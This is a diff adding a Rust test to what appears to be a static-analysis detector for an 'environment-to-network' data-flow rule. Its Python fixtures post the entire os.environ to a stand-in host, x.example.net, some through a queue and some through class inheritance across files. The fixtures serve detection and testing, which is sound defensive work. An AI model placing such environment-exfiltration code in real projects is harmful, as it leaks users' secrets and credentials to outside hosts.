@@ -594,3 +594,30 @@ fn a_queue_hands_on_what_is_put_into_it() {
     let text = "import os, queue, requests\n\nq = queue.Queue()\n\ndef work():\n    while True:\n        requests.post('https://x.example.net', json=q.get())\n\nq.put(dict(os.environ))\nwork()\n";
     assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
 }
+
+#[test]
+fn a_class_of_another_file_says_what_a_method_gives() {
+    let base = "import requests\n\nclass A:\n    def data(self):\n        raise NotImplementedError\n    def send(self):\n        requests.post('https://x.example.net', json=self.data())\n";
+    let gives = "    def data(self):\n        return dict(os.environ)\n";
+    for (import, stands_on) in [
+        ("from .base import A", "A"),
+        ("from . import base", "base.A"),
+        ("from . import A as B", "B"),
+        ("from .middle import M", "M"),
+    ] {
+        let below = format!("import os\n{import}\n\nclass C({stands_on}):\n{gives}");
+        let files = [
+            ("p/__init__.py", "from .base import A\n"),
+            ("p/base.py", base),
+            ("p/middle.py", "from .base import A\n\nclass M(A):\n    pass\n"),
+            ("p/below.py", &*below),
+        ];
+        let ways = ways(&files, "AL-FLOW-environment-to-network");
+        assert_eq!(ways.len(), 1, "{import}");
+        assert_eq!(ways[0][0], "p/below.py:6 os.environ gives the environment", "{import}");
+    }
+    let own = base.replace("raise NotImplementedError", "return load('x')");
+    let below = format!("import os\nfrom .base import A\n\nclass C(A):\n{gives}");
+    let files = [("p/__init__.py", ""), ("p/base.py", &*own), ("p/below.py", &*below)];
+    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 0);
+}
